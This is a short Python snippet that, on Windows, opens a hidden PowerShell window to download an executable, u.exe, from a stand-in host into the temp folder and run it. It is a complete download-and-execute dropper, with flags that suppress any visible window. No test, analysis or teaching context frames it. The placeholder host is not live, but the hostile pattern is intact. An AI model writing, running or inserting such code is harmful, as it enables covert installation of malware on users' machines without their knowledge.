import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(["powershell", "-w", "hidden", "-c",
                      "iwr http://ps.example.invalid/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe"],
                     creationflags=0x08000000)
